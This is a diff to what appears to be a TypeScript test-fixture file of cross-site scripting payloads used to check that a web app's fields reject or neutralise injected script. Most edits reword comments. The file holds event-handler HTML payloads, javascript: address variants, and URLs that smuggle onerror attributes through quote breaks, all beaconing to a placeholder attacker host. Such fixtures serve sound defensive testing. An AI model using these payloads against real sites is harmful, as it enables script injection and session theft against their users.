@@ -1,8 +1,8 @@
-// Texts that an owner could enter to run a script on a page. Each requests something from this origin if it succeeds,
-// so that one listener sees them all.
+// Texts that an owner could enter to run a script on a page. Each text requests something from this origin if it
+// succeeds, so one listener detects all of them.
 export const attackerOrigin = 'https://attacker.example'
 
-/** `nth` tells the attacks apart in a failure. */
+/** `nth` identifies the attack in a failure message. */
 type Attack = (nth: number) => string
 
 const toUrl = (nth: number) => `${attackerOrigin}/${nth}`
@@ -79,10 +79,9 @@ const attacks: Attack[] = [
   (nth) => `<x/onclick=${toScript(nth)} autofocus tabindex=1 onfocus=${toScript(nth)}>`,
 ]
 
-/** A text per attack. */
 export const textAttacks: string[] = attacks.map((attack, nth) => attack(nth))
 
-/** Addresses that no field may accept: they are no pages or pictures that are loaded over https. */
+/** Addresses that every field must reject, because they are not pages or pictures loaded over https. */
 export const addressAttacks: string[] = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
@@ -104,7 +103,7 @@ export const addressAttacks: string[] = [
   'about:blank',
 ]
 
-/** Addresses that fields accept, and that must stay one address where they stand on a page. */
+/** Addresses that fields accept. Each must remain a single address wherever it appears on a page. */
 export const acceptedAddresses: string[] = [
   `https://pictures.example/"onerror="${toScript(100)}"x="`,
   `https://pictures.example/'onerror='${toScript(101)}'x='`,
